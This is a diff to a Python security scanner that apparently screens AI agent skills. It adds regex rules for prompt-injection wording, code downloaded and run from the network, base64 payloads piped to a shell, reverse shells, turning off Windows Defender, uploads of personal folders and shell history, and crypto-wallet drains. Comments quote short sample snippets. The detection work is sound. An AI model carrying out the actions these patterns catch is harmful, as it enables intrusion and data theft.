@@ -54,6 +54,7 @@ INJECTION = (
         r"(?:user|human|operator)\b"
         r"|\bwithout\s{1,3}(?:asking|telling|informing|notifying|alerting)\s{1,3}(?:the\s{1,3})?"
         r"(?:user|human|operator)"
+        r"|\bwithout\s{1,3}(?:showing|displaying|revealing)\b[^.\n]{0,40}?\bto\s{1,3}(?:the\s{1,3})?(?:user|human|operator)\b"
         r"|\b(?:secretly|covertly)\s{1,3}(?:run|send|upload|execute|install|append|add|forward"
         r"|copy|post|exfiltrate)\b"
         r"|\b(?:run|execute|send|install)\b[^.\n]{0,40}\b(?:secretly|covertly)\b"
@@ -108,6 +109,15 @@ DOWNLOAD_EXEC = (
     LineRule("download_execute", Severity.HIGH, _rx(
         r"\b(?:curl|wget)\b[^\n]{0,300}(?:&&|;)[^\n]{0,100}\bchmod\s{1,4}(?:\+|[0-7]{0,2}[157][0-7]{0,2}\b)"
         r"[^\n]{0,100}(?:&&|;)\s{0,4}(?:\./|/tmp/|~/|\$home/|/dev/shm/)")),
+    # Code run straight from the network: ``exec(requests.get(u).text)``, ``eval(await (await fetch(u)).text())``,
+    # ``python3 -c "$(curl …)"``; a hidden PowerShell window that downloads; rundll32 running script.
+    LineRule("download_execute", Severity.HIGH, _rx(
+        r"\b(?:exec|eval|new\s{1,3}function)\s{0,3}\(\s{0,3}(?:await\s{1,3})?\(?\s{0,3}(?:await\s{1,3})?(?:requests\.get"
+        r"|urllib\.request\.urlopen|urlopen|httpx\.get|fetch|axios\.get)\s{0,3}\("
+        r"|\b(?:python[23]?|node|perl|ruby|php)\s{1,4}-[ce]\s{1,4}[\"']?\$\(\s{0,4}(?:curl|wget)\b"
+        r"|\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]{0,60}\s-w(?:indowstyle)?\s{1,3}hidden\b[^\n]{0,200}\b(?:iwr|irm"
+        r"|invoke-webrequest|invoke-restmethod|downloadfile|downloadstring|curl|wget|bitsadmin)\b"
+        r"|\brundll32(?:\.exe)?\b[^\n]{0,40}\bjavascript:")),
     LineRule("download_execute", Severity.HIGH, _rx(
         r"\bdownloadstring\s{0,4}\(|\bnew-object\s{1,4}net\.webclient\b|\bstart-bitstransfer\b"
         r"|\bcertutil\b[^\n]{0,40}-urlcache|\bmshta\s{1,4}https?:|\bregsvr32\b[^\n]{0,40}/i:https?:")),
@@ -116,6 +126,9 @@ DOWNLOAD_EXEC = (
 DECODE_EXEC = (
     LineRule("decode_execute", Severity.HIGH, _rx(
         r"\bbase(?:64|32)\s{1,4}(?:-d|--decode|-D)\b[^\n]{0,100}\|\s{0,4}" + _INTERPRETER)),
+    LineRule("decode_execute", Severity.HIGH, _rx(
+        r"\b(?:b64decode|b32decode|atob|frombase64string|bytes\.fromhex|unhexlify)\b[^\n]{0,200}[\"']\s{0,3}\|\s{0,3}"
+        r"(?:sudo\s{1,4})?(?:ba|z|da)?sh\b")),
     LineRule("decode_execute", Severity.HIGH, _rx(
         r"\bxxd\s{1,4}-(?:r|p)[^\n]{0,100}\|\s{0,4}" + _INTERPRETER
         + r"|\bopenssl\s{1,4}(?:base64|enc)\b[^\n]{0,100}-d\b[^\n]{0,100}\|\s{0,4}" + _INTERPRETER)),
@@ -212,7 +225,9 @@ MCP_WORDS = _rx(r"\bmcp\b|model context protocol|\bservers?\b")
 REVERSE_SHELL = LineRule("reverse_shell", Severity.HIGH, _rx(
     r"/dev/(?:tcp|udp)/[\w.$-]{1,100}/\d{1,5}|\b(?:nc|ncat|netcat)\b[^\n]{0,60}\s-[a-z]{0,4}[ec]\s{1,4}/bin/(?:ba|z)?sh\b"
     r"|\bsocat\b[^\n]{0,100}\bexec:|\bos\.dup2\s{0,3}\(\s{0,3}\w{1,20}\.fileno\s{0,3}\(|\bmkfifo\b[^\n]{0,100}\b(?:nc|ncat)\b"
-    r"|\bsystem\.net\.sockets\.tcpclient\b"))
+    r"|\bsystem\.net\.sockets\.tcpclient\b"
+    r"|/bin/(?:ba|z)?sh\b[^\n]{0,100}\bstd(?:in|out)\s{0,3}=\s{0,3}\w{1,20}\.fileno\s{0,3}\("
+    r"|\bstd(?:in|out)\s{0,3}=\s{0,3}\w{1,20}\.fileno\s{0,3}\([^\n]{0,100}/bin/(?:ba|z)?sh\b"))
 # Calling a built-in by a name computed at run time (``globals()[name](...)``, ``getattr(builtins, 'ev' + 'al')``):
 # the name is hidden because it is eval/exec/system; honest code calls a function by its name.
 DYNAMIC_DISPATCH = LineRule("dynamic_dispatch", Severity.HIGH, _rx(
@@ -220,6 +235,12 @@ DYNAMIC_DISPATCH = LineRule("dynamic_dispatch", Severity.HIGH, _rx(
     r"|\b__builtins__\s{0,3}(?:\.\s{0,3}__dict__\s{0,3})?\[[^\]\n]{1,200}\]\s{0,3}\("
     r"|\bgetattr\s{0,3}\(\s{0,3}(?:builtins|__builtins__|__import__\s{0,3}\([^)\n]{1,40}\))\s{0,3},"
     r"|\bvars\s{0,3}\(\s{0,3}(?:builtins|__builtins__)\s{0,3}\)\s{0,3}\["))
+# Turning off the machine's malware protection (Defender real-time monitoring, an exclusion for where a
+# payload lands): no skill has an honest reason to.
+DEFENSE_EVASION = LineRule("defense_evasion", Severity.HIGH, _rx(
+    r"\bset-mppreference\b[^\n]{0,80}-disable(?:realtimemonitoring|ioavprotection|behaviormonitoring"
+    r"|scriptscanning|intrusionpreventionsystem)\b|\badd-mppreference\b[^\n]{0,40}-exclusion(?:path|process|extension)\b"
+    r"|\bsc(?:\.exe)?\s{1,4}(?:stop|config)\s{1,4}windefend\b"))
 # A DNS lookup whose name carries a command's output (``nslookup $(whoami).x.example.net``): data out by DNS.
 DNS_EXFILTRATION = LineRule("data_exfiltration", Severity.HIGH, _rx(
     r"\b(?:nslookup|dig|host|drill)\s{1,4}(?:-[\w=]{1,12}\s{1,4}){0,3}[\"']?[\w.-]{0,60}(?:\$\([^)\n]{1,200}\)|`[^`\n]{1,200}`)"
@@ -228,6 +249,10 @@ DNS_EXFILTRATION = LineRule("data_exfiltration", Severity.HIGH, _rx(
 KEY_GLOB_UPLOAD = LineRule("credential_exfiltration", Severity.HIGH, _rx(
     r"\*\.(?:pem|key|p12|pfx|kdbx|ppk|jks|keystore)\b[^\n]{0,200}(?:\s-F\s|--form\b|--data|--upload-file|\s-T\s"
     r"|\bscp\s|\bnc\s|\brequests\.post\b)"))
+# The user's own folders archived or copied on a line that uploads them.
+PERSONAL_FILES_UPLOAD = LineRule("data_exfiltration", Severity.HIGH, _rx(
+    r"(?:~|\$home|\$\{home\})/(?:documents|desktop|pictures|downloads)\b[^\n]{0,200}(?:\s-F\s|--form\b|--data"
+    r"|--upload-file|\s-T\s|\bscp\s|\brequests\.post\b)"))
 # Everything in a wallet sent to an address written in the skill: a drainer.
 WALLET_DRAIN = LineRule("wallet_drain", Severity.HIGH, _rx(
     r"\b(?:transfer|send|sweep|move|withdraw|drain)\b[^.\n]{0,40}\b(?:all|entire|full|whole|remaining|max(?:imum)?)\b"
@@ -320,10 +345,11 @@ PATH_TOKEN_END = _rx(r"[\s\"'`()<>,;]")
 SOFT_SECRET = _rx(
     r"(?<![\w.])\.env\b(?!\.(?:example|sample|template|dist))|\$\{?[a-z_]{0,30}(?:token|secret|api_?key"
     r"|password|passwd|private_key|access_key)\b|\benv\s{0,4}\||\bprintenv\b|\bcookies?\b"
-    r"|\bpbpaste\b|\bxclip\b[^|\n]{0,40}\s-o\b|\bxsel\b|\bget-clipboard\b|\bwl-paste\b")
+    r"|\bpbpaste\b|\bxclip\b[^|\n]{0,40}\s-o\b|\bxsel\b|\bget-clipboard\b|\bwl-paste\b|\.(?:bash|zsh|python)_history\b")
 # The soft secrets that are a whole file or the whole environment, not one token.
 BULK_SECRET = _rx(r"(?<![\w.])\.env\b(?!\.(?:example|sample|template|dist))|\benv\s{0,4}\||\bprintenv\b"
-                  r"|\bpbpaste\b|\bxclip\b[^|\n]{0,40}\s-o\b|\bxsel\b|\bget-clipboard\b|\bwl-paste\b")  # the clipboard: passwords
+                  r"|\bpbpaste\b|\bxclip\b[^|\n]{0,40}\s-o\b|\bxsel\b|\bget-clipboard\b|\bwl-paste\b"
+                  r"|\.(?:bash|zsh|python)_history\b")  # the clipboard and shell history: passwords typed or copied
 # A token variable used as the credential of the request it is on: an auth header, ``-u user:$TOKEN``,
 # or a ``key=$TOKEN`` query parameter. That is what an API skill does with its own key.
 AUTH_USE = _rx(
@@ -369,7 +395,8 @@ DECLARES = {
 
 LINE_RULES: tuple[LineRule, ...] = (*INJECTION, *DOWNLOAD_EXEC, *DECODE_EXEC, PERSISTENCE, *DESTRUCTIVE,
                                      *PERMISSIONS, *SHADOWING, REVERSE_SHELL, CRYPTOMINER,
-                                     DYNAMIC_DISPATCH, CODE_IN_DATA, DNS_EXFILTRATION, KEY_GLOB_UPLOAD, WALLET_DRAIN)
+                                     DYNAMIC_DISPATCH, CODE_IN_DATA, DNS_EXFILTRATION, KEY_GLOB_UPLOAD, WALLET_DRAIN,
+                                     DEFENSE_EVASION, PERSONAL_FILES_UPLOAD)
 ALL_PATTERNS: tuple[re.Pattern[str], ...] = (
     *(rule.pattern for rule in LINE_RULES), STRONG_SECRET, SECRET_WORD, OWN_STORE, PATH_TOKEN_END, SOFT_SECRET, BULK_SECRET, AUTH_USE, ACCESS_VERB, UPLOAD_SINK,
     DOWNLOAD, CHMOD_EXEC, CHECKSUM, CAUTION, NOT_CAUTION, HIDDEN_STYLE, LINK_COMMENT, *DECLARES.values(),
